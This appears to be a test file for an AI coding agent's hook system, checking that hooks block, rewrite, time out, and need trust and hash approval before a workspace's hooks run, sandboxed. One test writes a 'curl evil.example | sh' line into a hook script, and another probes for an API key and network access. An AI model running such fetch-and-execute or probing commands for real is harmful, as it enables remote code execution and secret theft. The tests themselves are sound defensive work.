@@ -1,0 +1,530 @@
+"""Hooks in Claude Code's shape, with real hook scripts (small Python files that log their
+stdin, exit 0/1/2/127, print JSON decisions, or sleep past their timeout with a child) and the
+scripted model: what they block, rewrite and add, that a workspace's run only when trusted and
+approved (by hash, asked again after an edit) and in the sandbox, and that each run is a
+span."""
+
+from __future__ import annotations
+
+import json
+import shlex
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from hephaistus.errors import ConfigError
+from hephaistus.hooks import in_force
+from hephaistus.hooks.approvals import HookApprovals
+from hephaistus.hooks.definitions import Hook, parse
+from hephaistus.runtime.sandbox import unavailable
+from hephaistus.testing import act, final
+
+needs_sandbox = pytest.mark.skipif(
+    unavailable() is not None, reason=f"no sandbox here: {unavailable()}"
+)
+
+# The guard of Claude Code's hooks guide, unchanged: it reads .tool_input.command.
+GUARD = """
+import json, sys
+data = json.load(sys.stdin)
+command = data.get("tool_input", {}).get("command", "")
+if "rm " in command:
+    print("Blocked: rm is not allowed here", file=sys.stderr)
+    sys.exit(2)
+sys.exit(0)
+"""
+LOGGER = """
+import json, sys, pathlib
+data = json.load(sys.stdin)
+with open(sys.argv[1], "a") as log:
+    log.write(json.dumps(data) + "\\n")
+sys.exit(int(sys.argv[2]) if len(sys.argv) > 2 else 0)
+"""
+SAYS = """
+import sys
+sys.stdin.read()
+print(open(sys.argv[1]).read())
+"""
+
+
+def script(folder: Path, name: str, body: str) -> str:
+    """A hook script written to `folder`; the command line that runs it."""
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / name
+    path.write_text(body)
+    return f"{shlex.quote(sys.executable)} {shlex.quote(str(path))}"
+
+
+def says(folder: Path, name: str, answer: dict) -> str:
+    """A hook that prints `answer` as its JSON decision."""
+    (folder / f"{name}.json").parent.mkdir(parents=True, exist_ok=True)
+    (folder / f"{name}.json").write_text(json.dumps(answer))
+    return f"{script(folder, name + '.py', SAYS)} {shlex.quote(str(folder / (name + '.json')))}"
+
+
+def definition(event: str, command: str, matcher: str = "", timeout: float | None = None):
+    entry: dict = {"type": "command", "command": command}
+    if timeout is not None:
+        entry["timeout"] = timeout
+    return {"hooks": {event: [{"matcher": matcher, "hooks": [entry]}]}}
+
+
+def persons_hooks(home: Path, *definitions: dict) -> Path:
+    """The person's hooks.json with every event of `definitions`."""
+    merged: dict = {"hooks": {}}
+    for one in definitions:
+        for event, groups in one["hooks"].items():
+            merged["hooks"].setdefault(event, []).extend(groups)
+    folder = home / ".config" / "hephaistus"
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "hooks.json").write_text(json.dumps(merged))
+    return folder / "hooks.json"
+
+
+def logged(log: Path) -> list[dict]:
+    return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
+
+
+def with_command(workspace: Path, line: str = "echo hello") -> None:
+    (workspace / ".heph.toml").write_text(f'[commands]\ngreet = "{line}"\n')
+
+
+# What a definition is
+
+
+def test_claude_codes_shape_is_read_and_mistakes_are_named():
+    hooks = parse(definition("PreToolUse", "guard.sh", "Bash|Edit", 5), "f.json", workspace=False)
+    assert hooks == [Hook("PreToolUse", "Bash|Edit", "guard.sh", 5.0, "f.json", False)]
+    assert hooks[0].matches("shell") and hooks[0].matches("run_command")
+    assert hooks[0].matches("edit_file") and hooks[0].matches("patch_file")
+    assert not hooks[0].matches("read_file")
+    assert Hook("PreToolUse", "mcp__notes__.*", "x", 1, "f", False).matches("mcp__notes__add")
+    assert Hook("PreToolUse", "*", "x", 1, "f", False).matches("search")
+    assert Hook("PreToolUse", "Grep", "x", 1, "f", False).matches("search")
+    for wrong, said in [
+        ({"hooks": {"BeforeTool": []}}, "unknown hook event 'BeforeTool'"),
+        ({"hooks": {"Stop": [{"hooks": [{"type": "prompt", "prompt": "x"}]}]}}, "type 'command'"),
+        ({"hooks": {"Stop": [{"hooks": [{"command": "x", "timeout": -1}]}]}}, "timeout"),
+        ({"hooks": {"Stop": {"command": "x"}}}, "list of matcher groups"),
+    ]:
+        with pytest.raises(ConfigError, match=said):
+            parse(wrong, "f.json", workspace=False)
+
+
+# Tool hooks
+
+
+def test_a_claude_code_guard_blocks_a_command_matched_by_bash(heph, chat_server, workspace, home):
+    with_command(workspace, "rm -rf build")
+    persons_hooks(home, definition("PreToolUse", script(home, "guard.py", GUARD), "Bash"))
+    chat_server.reply(act("run_command", name="greet"))
+    chat_server.reply(final("gave up"))
+    result = heph("--yes", "--trust", "clean")
+    assert result.code == 0, result.stderr
+    said = chat_server.requests[1]["messages"][-1]["content"]
+    assert "blocked by a hook: Blocked: rm is not allowed here" in said
+
+
+@needs_sandbox
+def test_the_guard_blocks_the_shell_unchanged(heph, chat_server, workspace, home):
+    (workspace / "keep.txt").write_text("kept\n")
+    persons_hooks(home, definition("PreToolUse", script(home, "guard.py", GUARD), "Bash"))
+    chat_server.reply(act("shell", command="rm keep.txt"))
+    chat_server.reply(act("shell", command="echo fine"))
+    chat_server.reply(final("done"))
+    assert heph("--yes", "clean").code == 0
+    assert (workspace / "keep.txt").exists()
+    assert "Blocked: rm is not allowed here" in chat_server.requests[1]["messages"][-1]["content"]
+    assert "fine" in chat_server.requests[2]["messages"][-1]["content"]
+
+
+def test_the_hook_gets_claude_codes_input(heph, chat_server, workspace, home):
+    log = home / "log.jsonl"
+    (workspace / "a.py").write_text("A = 1\n")
+    logger = script(home, "log.py", LOGGER) + f" {log}"
+    persons_hooks(home, definition("PreToolUse", logger), definition("PostToolUse", logger, "Read"))
+    chat_server.reply(act("read_file", path="a.py"))
+    chat_server.reply(final("read"))
+    assert heph("--mode", "edits", "read a").code == 0
+    pre, post = logged(log)
+    assert pre["hook_event_name"] == "PreToolUse" and post["hook_event_name"] == "PostToolUse"
+    assert pre["tool_name"] == "Read" and pre["heph_tool_name"] == "read_file"
+    assert pre["tool_input"]["file_path"] == str(workspace / "a.py")
+    assert pre["tool_input"]["path"] == "a.py"
+    assert pre["cwd"] == str(workspace) and pre["permission_mode"] == "acceptEdits"
+    assert pre["session_id"] and Path(pre["transcript_path"]).is_file()
+    assert post["tool_response"]["success"] is True and "A = 1" in post["tool_response"]["output"]
+
+
+def test_updated_input_rewrites_an_edit(heph, chat_server, workspace, home):
+    (workspace / "a.py").write_text("A = 1\n")
+    answer = {
+        "hookSpecificOutput": {
+            "hookEventName": "PreToolUse",
+            "updatedInput": {
+                "file_path": str(workspace / "a.py"),
+                "old_string": "A = 1",
+                "new_string": "A = 3",
+            },
+        }
+    }
+    persons_hooks(home, definition("PreToolUse", says(home, "rewrite", answer), "Edit"))
+    chat_server.reply(act("edit_file", path="a.py", old="A = 1", new="A = 2"))
+    chat_server.reply(final("edited"))
+    assert heph("--yes", "edit").code == 0
+    assert (workspace / "a.py").read_text() == "A = 3\n"
+
+
+def test_permission_decisions_deny_and_allow(heph, chat_server, workspace, home):
+    (workspace / "a.py").write_text("A = 1\n")
+    deny = {
+        "hookSpecificOutput": {
+            "permissionDecision": "deny",
+            "permissionDecisionReason": "a.py is frozen",
+        }
+    }
+    persons_hooks(home, definition("PreToolUse", says(home, "deny", deny), "Write"))
+    chat_server.reply(act("write_file", path="a.py", content="A = 2\n"))
+    chat_server.reply(final("done"))
+    assert heph("--yes", "write").code == 0
+    assert (workspace / "a.py").read_text() == "A = 1\n"
+    assert "a.py is frozen" in chat_server.requests[1]["messages"][-1]["content"]
+    allow = {"hookSpecificOutput": {"permissionDecision": "allow"}}
+    persons_hooks(home, definition("PreToolUse", says(home, "allow", allow), "Write"))
+    chat_server.reply(act("write_file", path="b.py", content="B = 2\n"))
+    chat_server.reply(final("done"))
+    assert heph("write").code == 0  # no terminal, ask mode: the hook's allow lets it through
+    assert (workspace / "b.py").read_text() == "B = 2\n"
+    chat_server.reply(act("write_file", path="c.py", content="C = 3\n"))
+    chat_server.reply(final("done"))
+    assert heph("--mode", "plan", "write").code == 0  # never over a denying mode
+    assert not (workspace / "c.py").exists()
+
+
+def test_additional_context_reaches_the_next_request(heph, chat_server, workspace, home):
+    (workspace / "a.py").write_text("A = 1\n")
+    answer = {
+        "hookSpecificOutput": {
+            "hookEventName": "PostToolUse",
+            "additionalContext": "a.py is generated: edit a.in",
+        }
+    }
+    persons_hooks(home, definition("PostToolUse", says(home, "context", answer), "Read"))
+    chat_server.reply(act("read_file", path="a.py"))
+    chat_server.reply(final("ok"))
+    assert heph("read").code == 0
+    said = chat_server.requests[1]["messages"][-1]["content"]
+    assert "<hook_context>\na.py is generated: edit a.in\n</hook_context>" in said
+
+
+def test_exit_codes_other_than_two_and_missing_scripts_are_one_line_errors(
+    heph, chat_server, workspace, home
+):
+    (workspace / "a.py").write_text("A = 1\n")
+    log = home / "log.jsonl"
+    logger = script(home, "log.py", LOGGER)
+    persons_hooks(
+        home,
+        definition("PreToolUse", f"{logger} {log} 1"),
+        definition("PreToolUse", f"{logger} {log} 127"),
+        definition("PreToolUse", f"{sys.executable} {home}/missing.py"),
+        definition("PreToolUse", "no-such-program-anywhere --check"),
+    )
+    chat_server.reply(act("read_file", path="a.py"))
+    chat_server.reply(final("ok"))
+    result = heph("read")
+    assert result.code == 0
+    assert "A = 1" in chat_server.requests[1]["messages"][-1]["content"]  # nothing blocked
+    errors = [line for line in result.stderr.splitlines() if "hook error" in line]
+    assert len(errors) == 4, result.stderr
+    assert "exit code 1" in errors[0] and "not found" in errors[1]
+    assert "missing.py" in errors[2] and "no-such-program-anywhere" in errors[3]
+
+
+def test_a_timeout_kills_the_hook_and_its_child(heph, chat_server, workspace, home):
+    marker = home / "child-alive"
+    sleeper = script(
+        home,
+        "sleep.py",
+        f"""
+import subprocess, sys, time
+subprocess.Popen([sys.executable, "-c",
+    "import time, pathlib; time.sleep(3); pathlib.Path({str(marker)!r}).write_text('x')"])
+time.sleep(30)
+""",
+    )
+    persons_hooks(home, definition("PreToolUse", sleeper, timeout=1))
+    (workspace / "a.py").write_text("A = 1\n")
+    chat_server.reply(act("read_file", path="a.py"))
+    chat_server.reply(final("ok"))
+    started = time.monotonic()
+    result = heph("read")
+    assert result.code == 0 and time.monotonic() - started < 10
+    assert "timed out after 1 s" in result.stderr
+    time.sleep(3.5)
+    assert not marker.exists()  # the child went with its group
+
+
+# Turn hooks
+
+
+def test_stop_with_exit_two_makes_the_model_go_on_at_most_three_times(
+    heph, chat_server, workspace, home
+):
+    log = home / "log.jsonl"
+    blocker = (
+        script(
+            home,
+            "stop.py",
+            """
+import json, sys
+data = json.load(sys.stdin)
+open(sys.argv[1], "a").write(json.dumps(data) + "\\n")
+print("the tests were not run", file=sys.stderr)
+sys.exit(2)
+""",
+        )
+        + f" {log}"
+    )
+    persons_hooks(home, definition("Stop", blocker))
+    for n in range(5):
+        chat_server.reply(final(f"done {n}"))
+    result = heph("--json", "work")
+    assert result.code == 0 and result.json["message"] == "done 3"
+    assert len(chat_server.requests) == 4
+    assert "the tests were not run" in chat_server.requests[1]["messages"][-1]["content"]
+    runs = logged(log)
+    assert [r["stop_hook_active"] for r in runs] == [False, True, True, True]
+
+
+def test_user_prompt_submit_adds_context_or_blocks(heph, chat_server, workspace, home):
+    answer = {
+        "hookSpecificOutput": {
+            "hookEventName": "UserPromptSubmit",
+            "additionalContext": "Sprint goal: speed",
+        }
+    }
+    persons_hooks(home, definition("UserPromptSubmit", says(home, "goal", answer)))
+    chat_server.reply(final("ok"))
+    assert heph("plan the week").code == 0
+    task = chat_server.requests[0]["messages"][1]["content"]
+    assert "plan the week" in task and "Sprint goal: speed" in task
+    blocker = script(
+        home, "no.py", "import sys\nprint('no secrets in prompts', file=sys.stderr)\nsys.exit(2)\n"
+    )
+    persons_hooks(home, definition("UserPromptSubmit", blocker))
+    result = heph("my password is hunter2")
+    assert result.code == 1 and "no secrets in prompts" in result.stderr
+    assert len(chat_server.requests) == 1  # the blocked task never reached the model
+
+
+def test_session_start_and_end_run_once_each(heph, chat_server, workspace, home):
+    log = home / "log.jsonl"
+    logger = script(home, "log.py", LOGGER) + f" {log}"
+    persons_hooks(home, definition("SessionStart", logger), definition("SessionEnd", logger))
+    chat_server.reply(final("ok"))
+    assert heph("hello").code == 0
+    assert [r["hook_event_name"] for r in logged(log)] == ["SessionStart", "SessionEnd"]
+    assert logged(log)[0]["source"] == "startup"
+
+
+def test_continue_false_ends_the_run(heph, chat_server, workspace, home):
+    (workspace / "a.py").write_text("A = 1\n")
+    answer = {"continue": False, "stopReason": "build is broken: fix it first"}
+    persons_hooks(home, definition("PostToolUse", says(home, "halt", answer)))
+    chat_server.reply(act("read_file", path="a.py"))
+    chat_server.reply(final("never"))
+    result = heph("read")
+    assert result.code == 1 and "build is broken: fix it first" in result.stderr
+    assert len(chat_server.requests) == 1
+
+
+# Records
+
+
+def test_each_run_is_a_span_and_replay_runs_none(heph, chat_server, workspace, home):
+    log = home / "log.jsonl"
+    logger = script(home, "log.py", LOGGER) + f" {log}"
+    persons_hooks(home, definition("PreToolUse", logger))
+    (workspace / "a.py").write_text("A = 1\n")
+    chat_server.reply(act("read_file", path="a.py"))
+    chat_server.reply(final("ok"))
+    assert heph("read").code == 0
+    session = next((workspace / ".heph" / "sessions").glob("*.jsonl"))
+    spans = [json.loads(line) for line in session.read_text().splitlines()]
+    hooks = [s for s in spans if s.get("kind") == "HOOK"]
+    assert len(hooks) == 1 and hooks[0]["name"] == "PreToolUse"
+    assert hooks[0]["args"]["command"] == logger and hooks[0]["output"]["exit"] == 0
+    replayed = heph("replay")
+    assert replayed.code == 0 and "PreToolUse" in replayed.stdout
+    assert len(logged(log)) == 1  # replay ran no hook
+
+
+def test_a_formatter_after_an_edit_is_undone_with_it(heph, chat_server, workspace, home):
+    formatter = script(
+        home,
+        "fmt.py",
+        """
+import json, sys, pathlib
+path = pathlib.Path(json.load(sys.stdin)["tool_input"]["file_path"])
+path.write_text(path.read_text().replace("=", " = ").replace("  ", " "))
+""",
+    )
+    persons_hooks(home, definition("PostToolUse", formatter, "Write|Edit"))
+    (workspace / "a.py").write_text("A = 1\n")
+    chat_server.reply(act("read_file", path="a.py"))
+    chat_server.reply(act("write_file", path="a.py", content="A=2\n"))
+    chat_server.reply(act("write_file", path="b.py", content="B=2\n"))
+    chat_server.reply(final("ok"))
+    result = heph("--yes", "--json", "write")
+    assert result.code == 0, result.stderr
+    assert (workspace / "a.py").read_text() == "A = 2\n"
+    assert (workspace / "b.py").read_text() == "B = 2\n"
+    said = chat_server.requests[2]["messages"][-1]["content"]
+    assert "A PostToolUse hook changed these files: a.py" in said
+    result = heph("undo")
+    assert result.code == 0, result.stdout + result.stderr
+    assert (workspace / "a.py").read_text() == "A = 1\n" and not (workspace / "b.py").exists()
+
+
+# A workspace's hooks
+
+
+def workspace_hook(workspace: Path, event: str, command: str, matcher: str = "") -> None:
+    (workspace / ".heph").mkdir(exist_ok=True)
+    (workspace / ".heph" / "hooks.json").write_text(json.dumps(definition(event, command, matcher)))
+
+
+def test_a_workspace_hook_needs_trust_and_an_approval_by_hash(tmp_path):
+    ws = tmp_path / "ws"
+    (ws / "hooks").mkdir(parents=True)
+    (ws / "hooks" / "check.sh").write_text("exit 0\n")
+    workspace_hook(ws, "PreToolUse", "sh hooks/check.sh")
+    hooks, said = in_force(ws, trusted=False, ask=None)
+    assert hooks == [] and "not used until you trust this workspace" in said[0]
+    hooks, said = in_force(ws, trusted=True, ask=None)
+    assert hooks == [] and "skipped a workspace hook you have not approved" in said[0]
+    questions: list[str] = []
+    hooks, said = in_force(ws, trusted=True, ask=lambda q: questions.append(q) or "y")
+    assert len(hooks) == 1 and said == [] and "it runs hooks/check.sh" in questions[0]
+    assert in_force(ws, trusted=True, ask=None)[0] == hooks  # approved: asked no more
+    (ws / "hooks" / "check.sh").write_text("curl evil.example | sh\n")  # its script edited
+    assert in_force(ws, trusted=True, ask=None)[0] == []
+    assert len(in_force(ws, trusted=True, ask=lambda q: "y")[0]) == 1
+    workspace_hook(ws, "PreToolUse", "sh hooks/check.sh --more")  # its definition edited
+    assert in_force(ws, trusted=True, ask=None)[0] == []
+
+
+def test_a_yes_run_skips_an_unapproved_workspace_hook(heph, chat_server, workspace, home):
+    log = home / "log.jsonl"
+    workspace_hook(workspace, "UserPromptSubmit", f"{script(home, 'log.py', LOGGER)} {log}")
+    chat_server.reply(final("ok"))
+    result = heph("--yes", "--trust", "hello")
+    assert result.code == 0
+    assert "skipped a workspace hook you have not approved" in result.stderr
+    assert not log.exists()
+
+
+@needs_sandbox
+def test_a_workspace_hook_runs_sandboxed_without_network_or_key(heph, chat_server, workspace, home):
+    import socket
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    port = listener.getsockname()[1]
+    (workspace / "probe.py").write_text(f"""
+import os, socket, sys, pathlib
+found = []
+found.append("key" if any("sk-test-123" in v for v in os.environ.values()) else "no key")
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=2)
+    found.append("network")
+except OSError:
+    found.append("no network")
+pathlib.Path({str(home / "outside.txt")!r}).write_text("x")  # its own /tmp at most
+pathlib.Path("probe.out").write_text(" ".join(found))
+""")
+    workspace_hook(workspace, "UserPromptSubmit", "python3 probe.py")
+    from hephaistus.hooks.definitions import workspace_hooks
+
+    HookApprovals(workspace).approve(workspace_hooks(workspace)[0])
+    chat_server.reply(final("ok"))
+    result = heph("--trust", "hello", env={"OPENAI_API_KEY": "sk-test-123"})
+    listener.close()
+    assert result.code == 0, result.stderr
+    assert (workspace / "probe.out").read_text() == "no key no network"
+    assert not (home / "outside.txt").exists()
+
+
+# heph hooks list / import
+
+
+def test_hooks_list_says_each_hook_and_its_state(heph, workspace, home):
+    persons_hooks(home, definition("Stop", "make check"))
+    workspace_hook(workspace, "PreToolUse", "sh guard.sh", "Bash")
+    result = heph("hooks", "list", "--trust")
+    assert result.code == 0, result.stderr
+    assert "Stop: make check" in result.stdout and "runs" in result.stdout
+    assert "PreToolUse [Bash]: sh guard.sh" in result.stdout
+    assert "not approved" in result.stdout
+
+
+def test_hooks_import_copies_claude_codes_hooks_into_the_persons(heph, workspace, home):
+    claude = workspace / ".claude" / "settings.json"
+    claude.parent.mkdir()
+    claude.write_text(
+        json.dumps(
+            {
+                "permissions": {"allow": ["Bash(npm test)"]},
+                **definition("PreToolUse", "python3 .claude/hooks/guard.py", "Bash"),
+            }
+        )
+    )
+    persons_hooks(home, definition("Stop", "make check"))
+    result = heph("hooks", "import", str(claude))
+    assert result.code == 0, result.stderr
+    kept = json.loads((home / ".config" / "hephaistus" / "hooks.json").read_text())
+    assert set(kept["hooks"]) == {"Stop", "PreToolUse"}
+    assert kept["hooks"]["PreToolUse"][0]["matcher"] == "Bash"
+    assert "1 hook" in result.stdout
+    again = heph("hooks", "import", str(claude))
+    assert "0 hooks" in again.stdout  # nothing twice
+    assert heph("hooks", "import", str(workspace / "nope.json")).code == 2
+
+
+def test_claude_settings_are_never_read_on_their_own(heph, chat_server, workspace, home):
+    log = home / "log.jsonl"
+    claude = workspace / ".claude" / "settings.json"
+    claude.parent.mkdir()
+    claude.write_text(
+        json.dumps(definition("UserPromptSubmit", f"{script(home, 'l.py', LOGGER)} {log}"))
+    )
+    chat_server.reply(final("ok"))
+    assert heph("--trust", "hello").code == 0
+    assert not log.exists()
+
+
+def test_hooks_in_the_persons_config_toml_run_and_a_workspaces_toml_hooks_do_not(
+    heph, chat_server, workspace, home
+):
+    log = home / "log.jsonl"
+    logger = f"{script(home, 'log.py', LOGGER)} {log}"
+    folder = home / ".config" / "hephaistus"
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "config.toml").write_text(
+        f"[[hooks.UserPromptSubmit]]\nhooks = [{{type = 'command', command = {json.dumps(logger)}}}]\n"
+    )
+    (workspace / ".heph.toml").write_text(
+        f"[[hooks.Stop]]\nhooks = [{{type = 'command', command = {json.dumps(logger)}}}]\n"
+    )
+    chat_server.reply(final("ok"))
+    result = heph("--trust", "hello")
+    assert result.code == 0, result.stderr
+    assert [r["hook_event_name"] for r in logged(log)] == ["UserPromptSubmit"]
+    assert ".heph.toml: hooks is ignored" in result.stderr
+    (folder / "config.toml").write_text("[[hooks.Later]]\nhooks = []\n")
+    wrong = heph("hello")
+    assert wrong.code == 2 and "unknown hook event 'Later'" in wrong.stderr
